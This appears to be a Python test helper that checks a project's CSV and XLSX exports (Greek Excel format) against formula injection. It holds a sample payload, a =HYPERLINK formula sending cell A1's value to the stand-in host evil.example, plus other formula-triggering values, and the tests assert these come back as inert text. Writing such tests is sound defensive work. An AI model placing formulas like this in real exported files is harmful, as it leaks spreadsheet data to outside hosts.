"""Reading back the CSV and XLSX files the project writes, for the tests of every export:
the hostile value comes back as text, and nothing in the file is a formula."""

import csv
import io
import re
import zipfile

HOSTILE = '=HYPERLINK("https://evil.example/?q="&A1,"Κάντε κλικ")'
HOSTILE_MORE = ("+30 2310 000000", "-1+1", "@SUM(A1)", "\tταμπ", "\rcr")
NUMBER = re.compile(r"^-?\d+([.,]\d+)?$")


def csv_cells(data: bytes, *, delimiter: str = ";", bom: bool = True) -> list[list[str]]:
    """The rows of a CSV file as Greek Excel reads it (UTF-8 with BOM, `;`)."""
    if bom:
        assert data.startswith(b"\xef\xbb\xbf"), "a CSV for Greek Excel starts with a BOM"
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def assert_csv_inert(data: bytes, hostile: str = HOSTILE, **options) -> list[list[str]]:
    """`hostile` is in the file, with an apostrophe in front, and no other cell begins with
    a character that starts a formula (a number such as -1 or -1,5 may)."""
    rows = csv_cells(data, **options)
    cells = [cell for row in rows for cell in row]
    assert "'" + hostile in cells, f"{hostile!r} is not in the file as inert text"
    live = [c for c in cells if c and c[0] in "=+-@\t\r" and not NUMBER.match(c)]
    assert not live, f"cells that a spreadsheet would run: {live}"
    return rows


def assert_xlsx_inert(data: bytes, hostile: str = HOSTILE):
    """`hostile` is a text cell with Excel's quote prefix, no cell of the workbook is a
    formula, and no sheet of the file holds a formula element."""
    from openpyxl import load_workbook

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode("utf-8")
                assert not re.search(r"<(\w+:)?f[ >]", xml), f"{name} holds a formula"
    book = load_workbook(io.BytesIO(data))
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if cell.value == hostile:
                    found.append(cell)
    assert found, f"{hostile!r} is not in the workbook"
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in found)
    return book
